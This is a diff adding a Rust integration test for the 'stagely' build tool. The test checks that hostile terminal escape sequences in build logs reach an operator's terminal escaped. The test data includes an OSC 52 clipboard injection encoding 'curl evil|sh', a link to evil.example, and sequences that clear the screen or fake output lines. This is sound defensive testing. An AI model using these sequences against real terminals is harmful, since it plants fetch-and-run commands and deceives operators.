@@ -203,3 +203,116 @@ async fn submit_status_and_logs_talk_to_a_running_core() {
     assert!(log_text.contains("pushed "), "{log_text}");
     core.stop().await;
 }
+
+/// Runs `args` of `stagely` on a pseudo-terminal (util-linux `script`), as an operator's
+/// terminal would show it; returns what reached the terminal.
+fn on_a_terminal(token: &str, args: &[&str]) -> Vec<u8> {
+    let binary = agent_binary().with_file_name("stagely");
+    let mut command_line = binary.to_string_lossy().to_string();
+    for arg in args {
+        command_line.push_str(&format!(" '{arg}'"));
+    }
+    let output = Command::new("script")
+        .args(["-q", "-e", "-c", &command_line, "/dev/null"])
+        .env("STAGELY_API_TOKEN", token)
+        .output()
+        .expect("util-linux script");
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    output.stdout
+}
+
+/// Issue 26 (SECURITY.md row 72): build output cannot drive the operator's terminal.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn build_output_reaches_a_terminal_escaped_and_a_pipe_or_raw_as_stored() {
+    if !require_build_peers() || !require("script", "--version") {
+        return;
+    }
+    let busybox = busybox("amd64").unwrap();
+    // OSC 52 (clipboard), OSC 8 (a link), clear screen, cursor-up + erase to fake a line,
+    // a carriage return overwrite, and one plain colour.
+    let printed: &[u8] = b"\x1b]52;c;Y3VybCBldmlsfHNo\x07\n\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\n\x1b[2J\n\x1b[1A\x1b[2KSuccessfully tagged fake\n\x1b[31mred\x1b[0m\nfailed\rok\n";
+    let repo = TestRepo::with_files(&[
+        (
+            "stagely.yaml",
+            b"builds:\n  app:\n    context: .\n    platform: linux/amd64\n",
+        ),
+        (
+            "Dockerfile",
+            b"FROM scratch\nCOPY busybox /bin/busybox\nCOPY hostile.txt /hostile.txt\nRUN [\"/bin/busybox\", \"cat\", \"/hostile.txt\"]\n",
+        ),
+        ("hostile.txt", printed),
+        ("busybox", &busybox),
+    ])
+    .unwrap();
+    let mut core = TestCore::start().await.unwrap();
+    let run = core.submit(&repo, None, "pr-tty").await.unwrap();
+    let run = core.wait_finished(&run.id, Duration::from_secs(120)).await;
+    assert_eq!(run.status, "completed", "{:?}", run.jobs[0].error_message);
+    let job_id = run.jobs[0].id.clone();
+    // The API keeps the stored bytes.
+    let stored: String = core
+        .logs(&job_id)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|(_, line)| line)
+        .collect();
+    assert!(
+        stored.contains("\x1b]52;c;Y3VybCBldmlsfHNo\x07"),
+        "{stored:?}"
+    );
+
+    let (url, token) = (core.url.clone(), core.api_token.clone());
+    let shown = tokio::task::spawn_blocking(move || {
+        let plain = on_a_terminal(&token, &["logs", "--core", &url, &job_id]);
+        let followed = on_a_terminal(&token, &["logs", "--follow", "--core", &url, &job_id]);
+        let raw = on_a_terminal(&token, &["logs", "--raw", "--core", &url, &job_id]);
+        let piped = stagely()
+            .env("STAGELY_API_TOKEN", &token)
+            .args(["logs", "--core", &url, &job_id])
+            .output()
+            .unwrap()
+            .stdout;
+        (plain, followed, raw, piped)
+    })
+    .await
+    .unwrap();
+    let (plain, followed, raw, piped) = shown;
+    for (what, bytes) in [("logs", &plain), ("logs --follow", &followed)] {
+        let text = String::from_utf8_lossy(bytes);
+        // No escape sequence reaches the terminal but the re-emitted colour.
+        let escapes: Vec<&str> = text.split('\x1b').skip(1).collect();
+        assert!(
+            escapes
+                .iter()
+                .all(|rest| rest.starts_with("[31m") || rest.starts_with("[0m")),
+            "{what}: a raw escape reached the terminal: {text:?}"
+        );
+        for visible in [
+            r"\x1b]52;c;Y3VybCBldmlsfHNo^G",
+            r"\x1b]8;;https://evil.example",
+            r"\x1b[2J",
+            r"\x1b[1A\x1b[2KSuccessfully tagged fake",
+            "failed^Mok",
+            "\x1b[31mred\x1b[0m",
+        ] {
+            assert!(
+                text.contains(visible),
+                "{what}: {visible:?} not shown in {text:?}"
+            );
+        }
+    }
+    for (what, bytes) in [("logs --raw", &raw), ("logs | cat", &piped)] {
+        assert!(
+            contains_bytes(bytes, b"\x1b]52;c;Y3VybCBldmlsfHNo\x07")
+                && contains_bytes(bytes, b"\x1b[2J"),
+            "{what} did not write the stored bytes: {:?}",
+            String::from_utf8_lossy(bytes)
+        );
+    }
+    core.stop().await;
+}
